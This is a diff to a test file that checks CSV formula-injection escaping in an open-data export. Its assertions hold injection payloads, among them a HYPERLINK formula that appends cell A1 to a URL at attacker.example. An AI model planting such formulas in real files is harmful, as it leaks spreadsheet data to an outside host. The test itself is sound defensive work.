@@ -1,4 +1,4 @@
-"""Every CSV export is written by cop/core/csvfile.py, which keeps spreadsheets from running cells as formulas."""
+"""Every CSV export goes through cop/core/csvfile.py, which keeps spreadsheets from running formulas."""
 
 from __future__ import annotations
 
@@ -50,7 +50,9 @@ class OpenDataCsvTestCase(BaseTestCase):
         text.summary = "-2+3"
         text.save()
         response = self.client.get("/en/open-data/resources.csv")
-        rows = [r for r in csv.DictReader(io.StringIO(response.content.decode())) if r["slug"] == resource.slug]
+        rows = [
+            r for r in csv.DictReader(io.StringIO(response.content.decode())) if r["slug"] == resource.slug
+        ]
         english = next(r for r in rows if r["text_language"] == "en")
         assert english["publisher"] == '\'=HYPERLINK("https://attacker.example/?"&A1,"open")'
         assert (english["text_title"], english["text_summary"]) == ("'@SUM(1+1)", "'-2+3")
